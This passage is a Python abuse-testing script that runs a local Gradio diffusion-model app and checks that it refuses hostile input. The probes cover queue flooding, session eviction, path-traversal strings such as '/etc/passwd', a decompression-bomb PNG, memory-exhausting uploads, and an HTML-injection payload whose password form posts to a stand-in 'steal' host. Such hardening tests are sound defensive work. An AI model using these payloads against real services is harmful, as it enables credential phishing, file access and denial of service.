"""Load and abuse of a real app server, as a hostile visitor of a public Space would try it (items 1-16, one for
each hole that was found and closed; docs/reliability.md lists them).

    python benchmarks/abuse.py            the full run with the bundled models and more calls
    python benchmarks/abuse.py --quick    tiny models, fewer calls, a few minutes on 2 cores (tests/test_abuse.py)

It starts `python app.py` on a free loopback port with its own Gradio cache folder, drives it with raw HTTP
and gradio_client (loopback only, bounded in count and time), prints one table row per probe and exits 1 if
any probe failed. Every probe says what it measured; its limit is the behaviour the server promises.
"""
import argparse
import io
import json
import os
import signal
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import httpx
import numpy as np
from gradio_client import Client, handle_file
from PIL import Image

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:0] = [ROOT, os.path.join(ROOT, "tests")]
from app_fixtures import make_models_dir, start_app, stop_app  # noqa: E402

ROWS = []
MIN_AGE_S = 2            # set per run in main: files younger than this are never swept
ADDRESS_JOBS = 16        # the server's heavy jobs per network address (its default, set explicitly)
HELD_MODELS = 16         # fine-tuned models the server holds (default 48): the load rounds reach it in 2 rounds; 4 quick


def row(item, probe, measured, limit, ok):
    ROWS.append((item, probe, measured, limit, "pass" if ok else "FAIL"))
    print(f"  {item:>3} | {probe} | {measured} | {limit} | {'pass' if ok else 'FAIL'}", flush=True)


class Server:
    def __init__(self, url, proc, cache, log):
        self.url, self.proc, self.cache, self.log = url.rstrip("/"), proc, cache, log
        config = httpx.get(f"{self.url}/config").json()
        self.fn = {d["api_name"]: d["id"] for d in config["dependencies"] if d.get("api_name")}
        self.inputs = {d["api_name"]: d["inputs"] for d in config["dependencies"] if d.get("api_name")}
        self.skipped = {c["id"] for c in config["components"] if c.get("skip_api")}
        self.editors = [c["id"] for c in config["components"] if c["type"] == "imageeditor"]
        info = httpx.get(f"{self.url}/gradio_api/info").json()["named_endpoints"]
        self.params = {api.strip("/"): [(p["parameter_name"], p.get("parameter_default")) for p in e["parameters"]]
                       for api, e in info.items()}

    def args(self, api, values):
        """`values` (parameter name -> value) as `api`'s data in the order the server's handler takes them, its
        defaults for the rest: the names stay when handlers change their order (and between checkouts)."""
        names, unknown = iter(self.params[api]), set(values) - {n for n, _ in self.params[api]}
        if unknown:
            raise KeyError(f"/{api} has no parameters {sorted(unknown)}; it has {[n for n, _ in self.params[api]]}")
        data = []
        for component in self.inputs[api]:
            if component in self.skipped:                      # a state: not an API parameter
                data.append(None)
            else:
                name, default = next(names)
                data.append(values.get(name, default))
        return data

    def first(self, api):
        """The name of `api`'s first parameter."""
        return self.params[api][0][0]

    def client(self, sid, address=None, download=False):
        """A gradio_client of session `sid`; `download`: it fetches every file of an output, as a page would."""
        c = Client(self.url + "/", verbose=False, headers={"x-forwarded-for": address} if address else None,
                   download_files=tempfile.mkdtemp(prefix="abuse_files_") if download else False)
        c.session_hash = sid                                   # a session id of our choosing, as any client may
        return c

    def join(self, api, values, sid, address=None):
        """Join the queue with raw HTTP: (HTTP status, event id or the refusal's message). address: the client's
        network address as a proxy on loopback reports it (X-Forwarded-For, which uvicorn takes from loopback)."""
        r = httpx.post(f"{self.url}/gradio_api/queue/join", timeout=30,
                       headers={"x-forwarded-for": address} if address else None,
                       json={"data": self.args(api, values), "fn_index": self.fn[api], "session_hash": sid,
                             "event_data": None})
        body = r.json()
        return r.status_code, body.get("event_id") or body.get("detail")

    def call(self, api, values, sid, address=None, every=False):
        """One call through the queue with raw HTTP (json.dumps writes NaN, as a crafted request may): the output
        (with `every`, the data of every message, for a job that streams), or RuntimeError with the server's
        message."""
        headers = {"content-type": "application/json", **({"x-forwarded-for": address} if address else {})}
        r = httpx.post(f"{self.url}/gradio_api/queue/join", timeout=30, headers=headers,
                       content=json.dumps({"data": self.args(api, values), "fn_index": self.fn[api], "session_hash": sid,
                                           "event_data": None}))
        if r.status_code != 200:
            raise RuntimeError(r.text)
        seen = []
        with httpx.stream("GET", f"{self.url}/gradio_api/queue/data", params={"session_hash": sid}, timeout=120) as s:
            for line in s.iter_lines():
                if line.startswith("data:") and ('"process_completed"' in line or '"process_generating"' in line):
                    message = json.loads(line[5:])
                    if not message.get("success"):
                        raise RuntimeError(message.get("output", {}).get("error") or message)
                    seen.append(message["output"].get("data"))
                    if message["msg"] == "process_completed":
                        return seen if every else seen[-1]
        raise RuntimeError("the stream ended without a result")

    def rest(self, api, values, address=None, route="call"):
        """POST /gradio_api/<route>/<api> as a script would, without a session: (HTTP status, event id, the output
        or the refusal's message). `values` by name; call/v2 takes them as a JSON object."""
        body = values if route == "call/v2" else {"data": [values.get(n, d) for n, d in self.params[api]]}
        r = httpx.post(f"{self.url}/gradio_api/{route}/{api}", json=body, timeout=120,
                       headers={"x-forwarded-for": address} if address else None)
        try:
            answer = r.json()
        except ValueError:
            answer = {"detail": r.text}
        if not isinstance(answer, dict):
            answer = {"data": answer}
        return r.status_code, answer.get("event_id"), answer.get("detail") or answer.get("error") or answer.get("data")

    def result(self, api, event_id):
        """The outcome of a call/<api> event: "accepted", or the error's text."""
        with httpx.stream("GET", f"{self.url}/gradio_api/call/{api}/{event_id}", timeout=120) as s:
            event = None
            for line in s.iter_lines():
                if line.startswith("event:"):
                    event = line[6:].strip()
                elif line.startswith("data:") and event in ("complete", "error"):
                    if event == "complete":
                        return "accepted"
                    data = json.loads(line[5:])
                    return str(data.get("error") if isinstance(data, dict) else data)
        return "no result"

    def upload(self, content, name="upload.png", address=None):
        """POST /gradio_api/upload: (HTTP status, the server's path of the file or its refusal)."""
        r = httpx.post(f"{self.url}/gradio_api/upload", files={"files": (name, content)}, timeout=120,
                       headers={"x-forwarded-for": address} if address else None)
        return r.status_code, r.json()[0] if r.status_code == 200 else r.text

    def file(self, path, name="drawing.png"):
        """The value of an image input naming an uploaded file."""
        return {"path": path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}

    def stop(self, sid, api="/grid_stop"):
        """Press a Stop button of session sid; an older server without that endpoint has nothing to press."""
        if api.strip("/") in self.fn:
            self.client(sid).predict(api_name=api)

    def waiting(self):
        return httpx.get(f"{self.url}/gradio_api/queue/status").json()["queue_size"]

    def rss_mb(self):
        with open(f"/proc/{self.proc.pid}/status") as f:
            return next(int(line.split()[1]) for line in f if line.startswith("VmRSS")) / 1024

    def cpu_s(self):
        with open(f"/proc/{self.proc.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def cache_mb(self, younger_than=None, downloads=True):
        """MB in the Gradio cache (`younger_than` s: only those files; not `downloads`: without the app's files for
        download, a fine-tune's zip, a run's GIF, a grid's PNG, which the sweep keeps while their session lives)."""
        paths = [os.path.join(r, n) for r, _, ns in os.walk(self.cache) for n in ns
                 if downloads or not (n.endswith((".zip", ".gif")) or n.startswith("grid_"))]
        now = time.time()
        return sum(os.path.getsize(p) for p in paths
                   if younger_than is None or now - os.path.getmtime(p) < younger_than) / 2**20

    def session_folder(self):
        return os.path.join(tempfile.gettempdir(), "ddpm_app", str(self.proc.pid))

    def session_dirs(self):
        folder = self.session_folder()
        return len(os.listdir(folder)) if os.path.isdir(folder) else 0

    def log_bytes(self):
        return os.path.getsize(self.log)


def grid(names, per_class, guidance, sampler, steps, seed=0):
    """A grid's values by name."""
    return dict(model="mnist", classes=list(names), per_class=per_class, guidance=guidance, sampler=sampler,
                steps=steps, seed=seed)


def finetune(classes=("0 - zero",), kind="steps", budget=2, refresh=5):
    """A fine-tune's values by name: the bundled MNIST model on its own examples of `classes`."""
    return dict(base="mnist", source="classes", classes=list(classes), new_name="", files=None, budget_kind=kind,
                budget=budget, refresh_every=refresh)


def forward(t, seed=0):
    return dict(schedule="linear", T=1000, t=t, seed=seed)


def reverse(class_name, steps, seed, batch):
    return dict(model="mnist", class_name=class_name, sampler="ddim", steps=steps, eta=0.0, guidance=1.0, seed=seed,
                batch=batch)


PLAYGROUND = dict(shape="two_moons", word="DDPM", drawing=None, schedule="linear", T=50, beta_start=2e-3, beta_end=0.4,
                  width=32, depth=2, lr=3e-3, batch=128, seconds=2, t_view=25)


def said(out, *words):
    """The first text among a call's outputs holding all `words`, else the first text (a tab's outputs move as it
    changes; what they say stays)."""
    texts = [o for o in (out if isinstance(out, (list, tuple)) else [out]) if isinstance(o, str)]
    return next((t for t in texts if all(w in t for w in words)), texts[0] if texts else str(out))


def tuned_name(out):
    """The fine-tuned model's name among a fine-tune's outputs (the pickers it updates)."""
    values = [o.get("value") if isinstance(o, dict) else o for o in out]
    return next(v for v in values if isinstance(v, str) and "-finetuned-" in v and " " not in v and "." not in v)


def forward_latency(server, sid, n):
    """Seconds of `n` forward-slider moves, each with its image fetched; a failed one counts as an error."""
    c = server.client(sid, download=True)
    times = []
    for k in range(n):
        start = time.perf_counter()
        if _safe(lambda k=k: c.predict(**forward(100 + k), api_name="/forward")) is not None:
            times.append(time.perf_counter() - start)
    return times


def classes(server, model="mnist"):
    return server.client("picker").predict(model, api_name="/grid_classes")["choices"]


def probe_queue_flood(server, quick):
    """Item 1: one session queued 66 grid jobs in 0.3 s and every other visitor got "Queue is full"."""
    names = [c[0] if isinstance(c, (list, tuple)) else c for c in classes(server)][:10]
    big = grid(names, 10, 2.0, "ddpm", 20)
    busy = [server.join("grid", big, f"busy-{k}") for k in range(2)]      # two visitors hold both sampling slots
    time.sleep(1.0)
    codes = [server.join("grid", big, "flooder") for _ in range(20 if quick else 66)]
    taken = sum(code == 200 for code, _ in codes)
    refused = [msg for code, msg in codes if code != 200]
    row(1, f"both slots busy; one session joins {len(codes)} grid jobs", f"{taken} taken, {len(refused)} refused: "
        f"'{refused[0][:50]}...'" if refused else f"{taken} taken", "<= 2 taken (1 running + 1 waiting)",
        taken <= 2 and all("this session already has" in m for m in refused) and all(c == 200 for c, _ in busy))
    start = time.perf_counter()
    server.client("bystander").predict(**forward(300), api_name="/forward")
    slider = time.perf_counter() - start
    code, _ = server.join("grid", grid(names[:2], 1, 1.0, "ddim", 5), "bystander")
    row(1, "meanwhile another visitor: forward slider, then a small grid", f"slider {slider:.2f} s, grid HTTP {code}",
        "slider answers (< 5 s), grid taken", slider < 5 and code == 200)
    for sid in ("busy-0", "busy-1", "flooder", "flooder"):    # the flooder's two start as the others stop
        server.stop(sid)
        time.sleep(0.5)
    server.stop("flooder")
    return names


def probe_many_ids(server, names, quick):
    """Item 1 (and per-address limits): one client with many made-up session ids takes every waiting place."""
    big, tiny = grid(names, 10, 2.0, "ddpm", 20), grid(names[:1], 1, 1.0, "ddim", 2)
    busy = [server.join("grid", big, f"hold-{k}", address=f"10.0.0.{k + 1}") for k in range(2)]
    time.sleep(1.0)
    many = [server.join("grid", tiny, f"id-{k}", address="10.0.0.9") for k in range(24 if quick else 40)]
    taken = sum(code == 200 for code, _ in many)
    refused = [msg for code, msg in many if code != 200]
    other, _ = server.join("grid", tiny, "neighbour", address="10.0.0.10")
    limit = ADDRESS_JOBS
    row(1, f"one address, {len(many)} made-up session ids join a grid each (slots busy)",
        f"{taken} taken, {len(refused)} refused: '{refused[0][:45]}...'; another address: HTTP {other}" if refused
        else f"{taken} taken; another address: HTTP {other}", f"{limit} taken (the address limit), the other taken",
        taken == limit and refused and all("network address" in m for m in refused) and other == 200
        and all(c == 200 for c, _ in busy))
    for k in range(2):
        server.stop(f"hold-{k}")
    deadline = time.time() + 60          # wait until the address has room again (its tiny grids take a fraction of a second each)
    while time.time() < deadline and server.join("grid", tiny, "probe-free", address="10.0.0.9")[0] != 200:
        time.sleep(1.0)


def probe_killed_client(server, names):
    """Item 1: a 200-image DDPM grid ran 395 s after its client was killed."""
    time.sleep(1)                                          # the flood's jobs end (stopped) first
    sid = "leaver"
    code, _ = server.join("grid", grid(names, 10, 2.0, "ddpm", 20), sid)
    with httpx.stream("GET", f"{server.url}/gradio_api/queue/data", params={"session_hash": sid}, timeout=30) as r:
        deadline = time.time() + 20
        for line in r.iter_lines():                        # wait until the grid runs, then hang up
            if "process_starts" in line or time.time() > deadline:
                break
        time.sleep(1.0)
    left = time.perf_counter()
    time.sleep(2.0)                                        # Gradio notices the closed stream; the job stops
    cpu0 = server.cpu_s()
    time.sleep(3.0)
    busy = (server.cpu_s() - cpu0) / 3.0
    row(1, "a client hangs up 1 s into a 100-image DDPM grid", f"server CPU {busy:.2f} cores, "
        f"{time.perf_counter() - left - 3:.0f}-{time.perf_counter() - left:.0f} s after (the grid alone takes > 6 s)",
        "< 0.3 cores (the grid stopped)", code == 200 and busy < 0.3)


def probe_eviction(server, n):
    """Item 2: 70 cheap calls with made-up session ids evicted a live visitor's fine-tuned model (n ids: more than
    the server's session bound)."""
    victim = server.client("victim")
    out = victim.predict(**finetune(), api_name="/finetune")
    name = tuned_name(out)
    dirs = server.session_dirs()
    c = server.client("made-up")
    for k in range(n):
        c.session_hash = f"made-up-{k}"
        for api in ("/reverse_stop", "/finetune_stop", "/grid_stop", "/playground_stop"):
            if api.strip("/") in server.fn:                    # an older server may lack some Stop buttons
                c.predict(api_name=api)
    after = server.session_dirs()
    choices = victim.predict(model=name, api_name="/reverse_classes")["choices"]
    row(2, f"{n} made-up session ids x 4 Stop calls", f"victim's model {'kept' if choices else 'LOST'}, session folders "
        f"{dirs} -> {after}", "model kept, no new folders", bool(choices) and after <= dirs)


def probe_paths(server, tmp):
    """Item 3: the dataset dropdown accepted a path and read examples.safetensors from it."""
    c = server.client("paths")
    refused = 0
    for bad in (os.path.join(ROOT, "pretrained", "mnist"),
                "mnist/../fashion_mnist", "/etc/passwd"):
        try:
            c.predict(bad, api_name="/forward_gallery")        # its one parameter, the dataset
        except Exception as err:                                 # noqa: BLE001 - the refusal is what we measure
            refused += "not available" in str(err) or "not in the list of choices" in str(err)
    row(3, "dataset picker given 3 paths", f"{refused} / 3 refused by name", "3 / 3", refused == 3)


def probe_bomb(server, tmp):
    """Item 4: a 120 KB PNG of 10000 x 10000 pixels cost +2.1 GB per upload."""
    path = os.path.join(tmp, "bomb.png")
    Image.new("L", (10000, 10000), 0).save(path, optimize=True)
    before = server.rss_mb()
    try:
        server.client("bomber").predict(handle_file(path), api_name="/forward_upload")
        message = "accepted"
    except Exception as err:                                     # noqa: BLE001
        message = str(err)
    grew = server.rss_mb() - before
    row(4, f"upload a {os.path.getsize(path) // 1024} KB PNG of 10000 x 10000", f"'{message[:70]}', RSS +{grew:.0f} MB",
        "refused before decoding, < +100 MB", "pixels" in message and grew < 100)


def probe_temp(server, bound_mb, moves):
    """Item 5: Gradio's cache grew ~65 KB per slider move, 480 MB on one server, never cleaned."""
    c = server.client("slider")
    for k in range(moves):
        c.predict(**forward(k % 999, k), api_name="/forward")
    grown = server.cache_mb()
    time.sleep(MIN_AGE_S + float(os.environ.get("ABUSE_SWEEP_S", 3)) + 1)
    swept, young = server.cache_mb(downloads=False), server.cache_mb(younger_than=MIN_AGE_S, downloads=False)
    row(5, f"{moves} slider moves with DDPM_APP_MAX_TMP_MB={bound_mb:g}", f"cache {grown:.1f} MB, after a sweep "
        f"{swept:.1f} MB (not counting downloads), of which {young:.1f} MB younger than {MIN_AGE_S} s",
        "<= the bound + files too young to go", swept <= bound_mb + young + 0.1)


def probe_caps(server, cap_s):
    """Item 6: a 5000-step fine-tune had no time cap; one session held both training slots."""
    c = server.client("trainer")
    start = time.perf_counter()
    status = said(c.predict(**finetune(budget=5000, refresh=1000), api_name="/finetune"), "after")
    took = time.perf_counter() - start
    row(6, "a 5000-step fine-tune", f"ended after {took:.0f} s: '{status[:50]}...'", f"<= {cap_s} s + 20 s",
        took <= cap_s + 20 and "time cap" in status)
    first = c.submit(**finetune(["1 - one"], "seconds", cap_s), api_name="/finetune")
    time.sleep(2)
    second = c.predict(**PLAYGROUND, api_name="/playground_train")
    first_status = said(first.result(timeout=cap_s + 60), "after")
    row(6, "one session starts a fine-tune, then a playground run", f"fine-tune: '{first_status[:60]}...'",
        "the first job stops, keeping its weights", "Stopped" in first_status and "started" in first_status
        and "Done after" in said(second, "Done after"))


def probe_errors(server, tmp):
    """Item 8: a text file renamed .png showed the server's temp path; NaN t, an empty base: Python internals."""
    fake = os.path.join(tmp, "notes.png")
    open(fake, "w").write("not an image")
    c = server.client("errors")
    messages = []
    for call in (lambda: c.predict(handle_file(fake), api_name="/forward_upload"),
                 lambda: server.call("forward", forward(float("nan")), "errors"),
                 lambda: c.predict(**dict(finetune(), base=""), api_name="/finetune")):
        try:
            call()
            messages.append("accepted")
        except Exception as err:                                 # noqa: BLE001
            messages.append(str(err))
    leaks = [m for m in messages if "/tmp" in m or "Traceback" in m or "NoneType" in m or "convert float" in m]
    row(8, "fake PNG, NaN t, empty fine-tune base", " / ".join(m[:40] for m in messages), "each named, no path",
        not leaks and "accepted" not in messages)


def probe_mixing(server, names):
    """Item 9: two reverse runs of one session mixed their frames; duplicate classes; a blank training image."""
    c = server.client("twins")
    jobs = [c.submit(**reverse(names[k], 10, k, 1), api_name="/reverse") for k in range(2)]
    texts = [said(j.result(timeout=120), "step") for j in jobs]
    one_run = 10 + 1                                       # 10 step frames and the result, when a run is whole
    try:              # mixed frames would make 22 (and the run's last update would set the scrubber's maximum to 21)
        c.predict(frame=one_run, api_name="/reverse_scrub")
        past = "frame 11 exists: frames of two runs"
    except Exception as err:                               # noqa: BLE001
        past = str(err)
    last = said(c.predict(frame=one_run - 1, api_name="/reverse_scrub"), "recorded frame")
    row(9, "two reverse runs (10 steps) at once in one session", f"{texts[0][:20]}... / {texts[1][:20]}...; "
        f"scrub 10: '{last[:40]}'; scrub 11: '{past[:40]}'", "at most one run's 11 frames",
        ("outside" in past or "greater than maximum value 10" in past) and "recorded frame" in last)
    try:
        c.predict(**grid([names[0], names[0]], 10, 2.0, "ddim", 5), api_name="/grid")
        dup = "accepted"
    except Exception as err:                                     # noqa: BLE001
        dup = str(err)
    row(9, "a grid with a class chosen twice", dup[:70], "refused by name", "more than once" in dup)


def probe_rest_routes(server, names, quick):
    """Item 10: /gradio_api/call/<api> took 40 of 40 grids from one address over its limit (its body names no
    session, and only bodies that did were checked); /gradio_api/run/<api> skipped the queue."""
    big, tiny = grid(names, 10, 2.0, "ddpm", 20), grid(names[:1], 1, 1.0, "ddim", 2)
    busy = [server.join("grid", big, f"rest-hold-{k}", address=f"10.1.0.{k + 1}") for k in range(2)]
    time.sleep(1.0)
    calls = [server.rest("grid", tiny, address="10.1.0.9") for _ in range(24 if quick else 40)]
    taken = sum(code == 200 for code, _, _ in calls)
    v2, _, _ = server.rest("grid", tiny, address="10.1.0.9", route="call/v2")
    row(10, f"both slots busy; one address posts {len(calls)} grids to /call/grid (no session), then one to "
        "/call/v2/grid", f"{taken} taken; call/v2: HTTP {v2}", f"<= {ADDRESS_JOBS} taken (the address limit), "
        "call/v2 refused", taken <= ADDRESS_JOBS and v2 != 200 and all(c == 200 for c, _ in busy))
    for k in range(2):
        server.stop(f"rest-hold-{k}")
    run, _, answer = server.rest("grid", tiny, address="10.1.0.20", route="run")
    row(10, "a grid posted to /run/grid (the queue's bypass)", f"HTTP {run}: '{str(answer)[:50]}'",
        "refused (404): every job joins the queue", run == 404)
    deadline = time.time() + 60                      # the taken tiny grids run out before the next probe
    while time.time() < deadline and server.waiting() > 0:
        time.sleep(1.0)


def png(side, mode="L", noise=False, stroke=True):
    """PNG bytes of a `side` x `side` image: black with a white stroke (small), or noise (about side^2 bytes
    per channel, incompressible)."""
    if noise:
        image = Image.fromarray(np.random.default_rng(side).integers(0, 256, (side, side, len(mode)), dtype=np.uint8)
                                .squeeze(), mode)
    else:
        image = Image.new(mode, (side, side), 0)
        if stroke:
            image.paste(255, (side // 4, side // 2 - side // 40, 3 * side // 4, side // 2 + side // 40))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", optimize=not noise)
    return buffer.getvalue()


def probe_blobs(server):
    """Item 11: the sketchpads' blob store (accept_blobs) took any index (layer 20,000,000 of a 10-byte file held
    153 MB) and kept every blob (40 blobs of 1 MB held 61 MB)."""
    def part(blob_id, blob, index):
        r = httpx.post(f"{server.url}/gradio_api/component_server", timeout=60, files={"file": ("layer.png", blob)},
                       data={"component_id": str(server.editors[0]), "fn_name": "accept_blobs",
                             "session_hash": "blobber", "type": "layer", "index": str(index), "id": blob_id})
        return r.status_code
    before = server.rss_mb()
    code = part("huge-index", b"0123456789", 20_000_000)
    time.sleep(1.0)
    grew = server.rss_mb() - before
    row(11, "one drawing part naming layer 20,000,000 (a 10-byte file)", f"HTTP {code}, RSS +{grew:.0f} MB",
        "< +50 MB", grew < 50)
    blob, n = png(512, "RGBA", noise=True), 40
    before = server.rss_mb()
    codes = [part(f"drawing-{k}", blob, 0) for k in range(n)]
    time.sleep(1.0)
    grew = server.rss_mb() - before
    row(11, f"{n} drawing parts of {len(blob) / 2**20:.1f} MB under new ids, one session",
        f"{sum(c == 200 for c in codes)} taken, RSS +{grew:.0f} MB", "the latest few kept: < +20 MB", grew < 20)


def probe_layers(server):
    """Item 12: one add_drawing naming a 29 KB PNG of 4096 x 4096 as background, composite and 20 layers raised
    memory by 1.6 GB (the header check looked at each layer, not at their number), and no trim followed."""
    code, path = server.upload(png(4096), "big.png")
    image = server.file(path, "big.png")
    before = server.rss_mb()
    server.call("add_drawing", {server.first("add_drawing"): {"background": image, "layers": [image],
                                                               "composite": image, "id": None}}, "layers")
    time.sleep(1.0)
    grew = server.rss_mb() - before
    row(12, "add_drawing: the PNG as background, composite and one layer (allowed, 200 MB decoded)",
        f"RSS +{grew:.0f} MB after", "< +100 MB: freed memory handed back after a light call", grew < 100)
    before = server.rss_mb()
    try:
        server.call("add_drawing", {server.first("add_drawing"): {"background": image, "layers": [image] * 20,
                                                                   "composite": image, "id": None}}, "layers")
        message = "accepted"
    except RuntimeError as err:
        message = str(err)
    grew = server.rss_mb() - before
    row(12, "add_drawing: one 4096 x 4096 PNG as background, composite and 20 layers", f"'{message[:60]}', RSS "
        f"+{grew:.0f} MB", "refused before decoding, < +100 MB", code == 200 and "layers" in message and grew < 100)


MARKUP = ("<a href='https://example.com/x'>click here</a><img src='https://example.com/pixel.png'>"
          "<form action='https://example.com/steal'><input type='password' name='p'></form>")


def probe_markup(server):
    """Item 13: a crafted "Link to this view" quoted its bad value in the error toast, which Gradio renders as
    HTML: a link, a password form and a fetched image appeared."""
    try:
        server.call("scene", {server.first("scene"): f"tab=explore&scene={MARKUP}"}, "linker")
        shown = "accepted"
    except RuntimeError as err:
        shown = str(err)
    tags = [t for t in ("<a", "<img", "<form", "<input") if t in shown]
    row(13, "a link whose scene value carries <a>, <img>, <form>", f"tags in the toast: {tags or 'none'}; "
        f"'{shown[:50]}'", "none: the value shown as text (&lt;a ...)", not tags and "&lt;a" in shown)


def probe_cheap_eviction(server, names, sessions):
    """Item 14: 270 add_drawing calls from made-up session ids of one address evicted a visitor's playground model
    and reverse-run frames; 48 one-step fine-tunes from one address evicted another address's fine-tuned model."""
    drawer, tuner = server.client("victim-14"), server.client("victim-14-tuned")     # a visitor, and another
    drawer.predict(**reverse(names[1], 5, 0, 1), api_name="/reverse")
    drawer.predict(**dict(PLAYGROUND, seconds=1), api_name="/playground_train")
    out = tuner.predict(**finetune(), api_name="/finetune")
    model = tuned_name(out)

    def kept():
        checks = (lambda: drawer.predict(frame=0, api_name="/reverse_scrub"),
                  lambda: drawer.predict(sampler="ddim", steps=5, n_paths=4, api_name="/playground_paths"),
                  lambda: tuner.predict(model=model, api_name="/reverse_classes")["choices"] or 1 / 0)
        return [_safe(check) is not None for check in checks]
    _, path = server.upload(png(280), "sketch.png", address="10.2.0.66")
    n = sessions + 14
    start = time.perf_counter()
    ran = sum(_safe(server.call, "add_drawing", {server.first("add_drawing"): {"background": None, "layers": [],
                    "composite": server.file(path), "id": None}}, f"made-up-14-{k}", "10.2.0.66") is not None
              for k in range(n))
    took = time.perf_counter() - start
    frames, playground, _ = kept()
    row(14, f"{n} add_drawing calls from made-up session ids of one address ({took:.0f} s; {sessions} sessions "
        "held at most)", f"{ran} ran; another visitor's frames {'kept' if frames else 'LOST'}, playground model "
        f"{'kept' if playground else 'LOST'}", "all ran, both kept", ran == n and frames and playground)
    n = HELD_MODELS + 1
    start = time.perf_counter()
    ran = sum(_safe(server.call, "finetune", finetune(budget=1), f"tuner-14-{max(0, n - 4 - k)}", "10.2.0.67", True)
              is not None for k in range(n))        # one session each, then the last one 4 times
    took = time.perf_counter() - start
    tuned = kept()[2]
    row(14, f"{n} one-step fine-tunes from one address ({took:.0f} s; {HELD_MODELS} models held at most)",
        f"{ran} ran; another address's fine-tuned model {'kept' if tuned else 'LOST'}", "all ran, kept",
        ran == n and tuned)
    first = server.client("tuner-14-0", "10.2.0.67")
    held = [k for k in range(1, 5) if _safe(lambda k=k: first.predict(model=f"mnist-finetuned-{k}",
                                                                      api_name="/reverse_classes")["choices"] or 1 / 0)]
    folders = [os.path.join(server.session_folder(), d) for d in os.listdir(server.session_folder())]
    files = {name.removesuffix(".zip") for f in folders if os.path.exists(os.path.join(f, "mnist-finetuned-4"))
             for name in os.listdir(f) if name.startswith("mnist-finetuned-")}    # save_pretrained's folders, zips
    row(14, "the session that fine-tuned 4 times (it holds at most 3)", f"holds {len(held)} models, its folder the "
        f"files of {len(files)}", "only those of the models it holds",
        0 < len(held) <= 3 and files == {f"mnist-finetuned-{k}" for k in held})


def probe_uploads(server, quick, budget_mb):
    """Item 15: 300 uploads of 5 MB took 7 s and the cache reached 1,943 MB; the sweep then deleted the oldest
    files first, the checkpoint zips that live visitors had just been given among them."""
    size, n = (1, 40) if quick else (5, 120)
    before = server.cache_mb()
    rng = np.random.default_rng(15)
    codes = [server.upload(rng.bytes(size * 2**20), f"upload{k}.png", address="10.3.0.5")[0] for k in range(n)]
    taken = sum(c == 200 for c in codes)
    row(15, f"{n} uploads of {size} MB from one address", f"{taken} taken ({taken * size} MB), cache "
        f"{before:.0f} -> {server.cache_mb():.0f} MB", f"<= {budget_mb} MB taken (the address's uploads in 10 minutes)",
        taken * size <= budget_mb + size)
    out = server.call("finetune", finetune(budget=1), "downloader", every=True)
    zips = [p for p in _paths(out) if p.endswith(".zip")]
    for k in range(2):                               # newer files past MAX_TMP_MB: the zip is the oldest left
        server.upload(rng.bytes(2**20), f"newer{k}.png", address="10.3.0.6")
    time.sleep(MIN_AGE_S + 2 * float(os.environ.get("ABUSE_SWEEP_S", 3)) + 1)
    code = httpx.get(f"{server.url}/gradio_api/file={zips[-1]}").status_code if zips else None
    row(15, "a visitor's checkpoint zip, then 2 MB of newer uploads past MAX_TMP_MB and a sweep",
        f"download HTTP {code}", "200: kept while its session lives", code == 200)


def _paths(value):
    """Every file path named in a call's output (its data, updates, diffs)."""
    if isinstance(value, dict):
        return ([value["path"]] if isinstance(value.get("path"), str) else []) + [p for v in value.values()
                                                                                 for p in _paths(v)]
    if isinstance(value, (list, tuple)):
        return [p for v in value for p in _paths(v)]
    return []


RAW = ("unhashable", "NoneType", "has no attribute", "not subscriptable", "not supported between", "invalid literal",
       "could not convert", "Traceback", "object of type", "not iterable", "indices must be", "must be real number",
       "argument must be", "takes no", "positional argument", "keyword argument", "/tmp/", "/work/", "site-packages")


def probe_smaller(server, names, quick):
    """Item 16: cancel removed another session's waiting job; raw Python messages and server paths reached users;
    a refusal logged a traceback quoting its value; session folders kept every fine-tune's files."""
    big, tiny = grid(names, 10, 2.0, "ddpm", 20), grid(names[:1], 1, 1.0, "ddim", 2)
    busy = [server.join("grid", big, f"cancel-hold-{k}", address=f"10.4.0.{k + 1}") for k in range(2)]
    time.sleep(1.0)
    joined, event = server.join("grid", tiny, "cancel-victim", address="10.4.0.3")
    before = server.waiting()
    code = httpx.post(f"{server.url}/gradio_api/cancel", json={"session_hash": "cancel-attacker",
                      "fn_index": server.fn["grid"], "event_id": event}).status_code
    after = server.waiting()
    row(16, "another session cancels a waiting grid by its event id", f"HTTP {code}; jobs waiting {before} -> {after}",
        "refused: the job still waits", joined == 200 and after == before >= 1 and all(c == 200 for c, _ in busy))
    for k in range(2):
        server.stop(f"cancel-hold-{k}")
    weird = ([["x"]], {"a": [1]}) if quick else ([["x"]], {"a": [1]}, -1e308, [], "x" * 300, True)
    said = []
    for api in sorted(a for a, p in server.params.items() if p and not a.endswith("_stop")):
        for value in weird:
            code, event, answer = server.rest(api, {n: value for n, _ in server.params[api]}, address="10.4.0.9")
            said.append(server.result(api, event) if code == 200 else str(answer))
    raw = [m for m in said if any(r in m for r in RAW)]
    row(16, f"{len(said)} calls with values of the wrong kind ({len(said) // len(weird)} endpoints)",
        f"{len(raw)} raw: {'; '.join(sorted({m[:40] for m in raw}))[:150] or 'none'}", "0 raw Python messages or paths",
        not raw)
    n, before = 10 if quick else 20, server.log_bytes()
    for _ in range(n):
        _safe(server.call, "forward_gallery", {server.first("forward_gallery"): "x" * 2**20}, "long-values")
    time.sleep(1.0)
    grew = server.log_bytes() - before
    row(16, f"{n} refusals of a 1 MB value", f"log +{grew / 1024:.1f} KB", "< 1 KB a refusal (one line, the value "
        "cut)", grew < n * 1024)


def round_of_load(server, names, sessions, index):
    """`sessions` new visitors at once, each: forward slider, a reverse run, a small grid and a 2-step fine-tune
    (a model the server then holds); returns (errors, cross-talk)."""
    def visitor(k):
        c = server.client(f"load-{index}-{k}")
        c.predict(**forward(10 * k, k), api_name="/forward")
        text = said(c.predict(**dict(reverse(names[k % len(names)], 10, k, 4), sampler="dpmpp_2m", guidance=2.0),
                              api_name="/reverse"), "step")
        c.predict(**grid([names[k % len(names)]], 4, 2.0, "dpmpp_2m", 10, k), api_name="/grid")
        c.predict(**finetune([names[k % len(names)]]), api_name="/finetune")
        return "step 10 / 10" in text or "stopped" in text
    with ThreadPoolExecutor(sessions) as pool:
